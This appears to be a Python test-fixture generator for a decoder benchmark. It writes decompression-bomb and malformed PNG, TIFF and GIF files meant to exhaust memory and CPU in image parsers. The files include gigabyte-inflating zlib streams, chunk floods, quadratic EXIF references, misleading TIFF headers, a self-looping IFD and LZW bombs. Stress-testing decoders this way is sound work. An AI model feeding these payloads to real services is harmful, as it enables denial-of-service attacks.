# Writes small files that cost much into ./bombs; bench/attack/main.ts runs it. Needs Pillow for WebP and noise.
"""Writes the bomb pictures into bombs (all < 10 MB)."""
import os, struct, zlib, io, sys
OUT='bombs'; os.makedirs(OUT, exist_ok=True)
def put(name, b):
    assert len(b) < 10_000_000, (name, len(b))
    open(f'{OUT}/{name}','wb').write(b); print(f'{name:38s} {len(b):>9d}')
def chunk(t,d): return struct.pack('>I',len(d))+t+d+struct.pack('>I',zlib.crc32(t+d))
def ihdr(w,h,depth=8,ct=2,il=0): return chunk(b'IHDR',struct.pack('>IIBBBBB',w,h,depth,ct,0,0,il))
SIG=b'\x89PNG\r\n\x1a\n'
def zeros_z(n):
    c=zlib.compressobj(9); out=[]; z=bytes(1<<20)
    for _ in range(n>>20): out.append(c.compress(z))
    out.append(c.flush()); return b''.join(out)
which=set(sys.argv[1:])
def want(n): return not which or n in which

if want('png'):
    # 1x1 picture whose IDAT inflates to 1 / 8 GiB
    put('png_1x1_zlib_1GiB.png', SIG+ihdr(1,1)+chunk(b'IDAT',zeros_z(1<<30))+chunk(b'IEND',b''))
    put('png_1x1_zlib_4GiB.png', SIG+ihdr(1,1)+chunk(b'IDAT',zeros_z(4<<30))+chunk(b'IEND',b''))
    # honest biggest: 4096x4096 RGBA16 interlaced / not, one colour
    raw=lambda w,h,bpp:(b'\0'+bytes(w*bpp))*h
    put('png_4096_rgba16.png', SIG+ihdr(4096,4096,16,6)+chunk(b'IDAT',zlib.compress(raw(4096,4096,8),9))+chunk(b'IEND',b''))
    # paeth filter everywhere
    put('png_4096_rgba16_paeth.png', SIG+ihdr(4096,4096,16,6)+chunk(b'IDAT',zlib.compress((b'\4'+bytes(4096*8))*4096,9))+chunk(b'IEND',b''))
    n=sum(((4096-x+dx-1)//dx*8+1)*((4096-y+dy-1)//dy) for x,y,dx,dy in [(0,0,8,8),(4,0,8,8),(0,4,4,8),(2,0,4,4),(0,2,2,4),(1,0,2,2),(0,1,1,2)])
    put('png_4096_rgba16_adam7.png', SIG+ihdr(4096,4096,16,6,1)+chunk(b'IDAT',zlib.compress(bytes(n),9))+chunk(b'IEND',b''))
    put('png_1x65535.png', SIG+ihdr(1,65535)+chunk(b'IDAT',zlib.compress(raw(1,65535,3),9))+chunk(b'IEND',b''))
    put('png_65535x1.png', SIG+ihdr(65535,1)+chunk(b'IDAT',zlib.compress(raw(65535,1,3),9))+chunk(b'IEND',b''))
    put('png_1x16777215.png', SIG+ihdr(1,16777215)+chunk(b'IDAT',zlib.compress(raw(1,16777215,3),9))+chunk(b'IEND',b''))
    put('png_16777215x1.png', SIG+ihdr(16777215,1)+chunk(b'IDAT',zlib.compress(raw(16777215,1,3),9))+chunk(b'IEND',b''))
    # 800 000 empty IDAT chunks
    e=chunk(b'IDAT',b'')
    put('png_830k_empty_idat.png', SIG+ihdr(1,1)+chunk(b'IDAT',zlib.compress(b'\0\0\0\0'))+e*830_000+chunk(b'IEND',b''))
    d=zlib.compressobj(0); body=d.compress(bytes(4))+d.flush()
    one=b''.join(chunk(b'IDAT',bytes([x])) for x in zlib.compress(os.urandom(700_000//1)[:690_000],0))
    put('png_690k_1byte_idat.png', SIG+ihdr(480,479)+one[:9_900_000//13*13]+chunk(b'IEND',b''))
    # zTXt/iCCP bombs (ignored chunks)
    z=zeros_z(2<<30)
    put('png_iccp_ztxt_2GiB.png', SIG+ihdr(1,1)+chunk(b'iCCP',b'x\0\0'+z)+chunk(b'zTXt',b'x\0\0'+z)+chunk(b'IDAT',zlib.compress(b'\0\0\0\0'))+chunk(b'IEND',b''))
    # quadratic eXIf: many eXIf chunks, each pointing to one shared IFD of 65535 entries
    ifd=struct.pack('<H',65535)+struct.pack('<HHII',0x100,4,1,0)*65535
    n=400_000; size=8+25+ 20*n
    parts=[SIG+ihdr(1,1)]
    ifdpos_abs=8+25+20*n+8
    buf=bytearray(b''.join(parts))
    for i in range(n):
        start=8+25+20*i+8
        d=b'II*\0'+struct.pack('<I',ifdpos_abs-start)
        buf+=struct.pack('>I',8)+b'eXIf'+d+b'\0\0\0\0'
    buf+=chunk(b'teXt',ifd)+chunk(b'IDAT',zlib.compress(b'\0\0\0\0'))+chunk(b'IEND',b'')
    put('png_exif_quadratic.png', bytes(buf))
    small=bytearray(b''.join(parts)); n=5_000
    pos=8+25+20*n+8
    for i in range(n):
        start=8+25+20*i+8
        small+=struct.pack('>I',8)+b'eXIf'+b'II*\0'+struct.pack('<I',pos-start)+b'\0\0\0\0'
    small+=chunk(b'teXt',ifd)+chunk(b'IDAT',zlib.compress(b'\0\0\0\0'))+chunk(b'IEND',b'')
    put('png_exif_quadratic_small.png', bytes(small))

if want('tiff'):
    def tiff(tags, tail=b'', base=8, little=True):
        """tags: list of (tag,type,count,value)"""
        return b'II*\0'+struct.pack('<I',base)+struct.pack('<H',len(tags))+b''.join(struct.pack('<HHII',*t) for t in tags)+struct.pack('<I',0)+tail
    hdr=lambda n: 8+2+12*n+4
    # A: one tag repeated, each time with 9 million BYTE values
    def repeat(n,count):
        tags=[(256,3,1,1),(257,3,1,1)]+[(273,1,count,hdr(n+2))]*n
        return tiff(tags, bytes(count))
    put('tiff_tag_repeat_20x9M.tif', repeat(20,9_000_000))
    put('tiff_tag_repeat_60000x1M.tif', repeat(60000,1_000_000))
    put('tiff_tag_repeat_500x100k.tif', repeat(500,100_000))
    # B: overlapping strips: 1 px high strips, LZW of clear codes only in front of each
    def strips(rows, lzw_bytes, comp=5):
        # strip data: clear codes (256, 9 bits, msb first) ... then literals
        bits=''.join(['100000000']*(lzw_bytes*8//9)) + '000000000'*1+'100000001'
        bits+='0'*(-len(bits)%8)
        data=int(bits,2).to_bytes(len(bits)//8,'big')
        n=9
        pos=hdr(n)
        tags=[(256,3,1,1),(257,4,1,rows),(258,3,1,8),(259,3,1,comp),(262,3,1,1),(273,4,rows,pos+len(data)),(277,3,1,1),(278,4,1,1),(279,4,rows,pos+len(data)+4*rows)]
        return tiff(tags, data+struct.pack('<I',pos)*rows+struct.pack('<I',len(data))*rows)
    put('tiff_overlapping_lzw_2000x90k.tif', strips(2000,90_000))
    put('tiff_overlapping_lzw_60000x4M.tif', strips(60000,4_000_000))
    # C: overlapping deflate strips, each inflating to 16 MiB
    z=zeros_z(16<<20)
    def dstrips(n_strips, w, rps):
        n=9; pos=hdr(n); h=n_strips*rps
        tags=[(256,4,1,w),(257,4,1,h),(258,3,1,8),(259,3,1,8),(262,3,1,1),(273,4,n_strips,pos+len(z)),(277,3,1,1),(278,4,1,rps),(279,4,n_strips,pos+len(z)+4*n_strips)]
        return tiff(tags, z+struct.pack('<I',pos)*n_strips+struct.pack('<I',len(z))*n_strips)
    put('tiff_overlapping_deflate_4096.tif', dstrips(4096,4096,1))
    z=zeros_z(1<<30)
    put('tiff_deflate_1GiB.tif', dstrips(1,1,1))
    # D: header lies about the size: width as LONG with count 2 (header reads the pointer, the decoder the array)
    def lie(w,h,comp,data,rps):
        n=10; pos=hdr(n); nst=(h+rps-1)//rps
        arr=pos+len(data)
        tags=[(256,4,2,arr),(257,4,2,arr+8),(258,3,1,8),(259,3,1,comp),(262,3,1,1),(273,4,nst,arr+16),(277,3,1,1),(278,4,1,rps),(279,4,nst,arr+16+4*nst),(338,3,1,0)]
        return tiff(tags, data+struct.pack('<IIII',w,1,h,1)+struct.pack('<I',pos)*nst+struct.pack('<I',len(data))*nst)
    z=zeros_z(32<<20)
    put('tiff_header_lies_1G.tif', lie(32768,32768,8,z,1024))
    pb=bytes([129,0])*((32<<20)//128)   # packbits: 128 zero bytes from 2
    put('tiff_header_lies_1G_packbits.tif', lie(32768,32768,32773,pb,1024))
    # E: tiles far larger than the picture, 8 channels of 16 bits
    def tiles(w,h,tw,th,ch,bits,comp,data,nt):
        n=12; pos=hdr(n); b=struct.pack('<H',bits)*ch
        arr=pos+len(data)
        tags=[(256,4,1,w),(257,4,1,h),(258,3,ch,arr+8*nt),(259,3,1,comp),(262,3,1,1),(277,3,1,ch),(322,4,1,tw),(323,4,1,th),(324,4,nt,arr),(325,4,nt,arr+4*nt),(317,3,1,2),(338,3,1,0)]
        return tiff(tags, data+struct.pack('<I',pos)*nt+struct.pack('<I',len(data))*nt+b)
    z=zeros_z((4096*4096*4)*16)
    put('tiff_tile_4x_8ch16.tif', tiles(4096,4096,8192,8192,8,16,8,z,1))
    z=zeros_z(1<<20)
    put('tiff_many_tiles_1M.tif', tiles(1000,1,1,1<<20,1,8,8,z,1000))
    # F: IFD that is its own next, offset to itself
    put('tiff_ifd_loop.tif', b'II*\0'+struct.pack('<I',0)+b'\0'*64)

if want('gif'):
    def gif(w,h,blocks,pre=b''):
        return b'GIF89a'+struct.pack('<HH',w,h)+b'\x80\0\0'+b'\0\0\0\xff\xff\xff'+pre+b','+struct.pack('<HHHH',0,0,w,h)+b'\0\x02'+blocks+b'\0;'
    # LZW: one pixel doubling, honest bomb
    def lzw_run(size, bits=2):
        codes=[];clear=1<<bits; n=0; nxt=clear+2; width=bits+1
        out=bytearray(); acc=0; nb=0
        def emit(c,width):
            nonlocal acc,nb
            acc|=c<<nb; nb+=width
            while nb>=8: out.append(acc&255); acc>>=8; nb-=8
        emit(clear,width); emit(0,width); n=1; ln=1
        while n<size:
            # KwKwK: code = nxt
            if nxt<4096:
                emit(nxt,width); ln+=1; n+=ln; nxt+=1
                if nxt>=(1<<width) and width<12: width+=1
            else:
                emit(4095,12); n+=ln
        if nb: out.append(acc&255)
        return bytes(out)
    def blk(d): return b''.join(bytes([len(d[i:i+255])])+d[i:i+255] for i in range(0,len(d),255))
    put('gif_4096x4096_lzw.gif', gif(4096,4096,blk(lzw_run(4096*4096))))
    put('gif_65535x256.gif', gif(65535,256,blk(lzw_run(65535*256))))
    # 4.9 million sub-blocks of one byte
    put('gif_4.9M_subblocks.gif', gif(1,1,b'\x01\x00'*4_900_000))
    put('gif_4.9M_subblocks_comment.gif', gif(1,1,blk(lzw_run(1)),b'!\xfe'+b'\x01A'*4_900_000+b'\0'))
    put('gif_3.3M_extensions.gif', gif(1,1,blk(lzw_run(1)),b'!\xfe\0'*3_300_000))
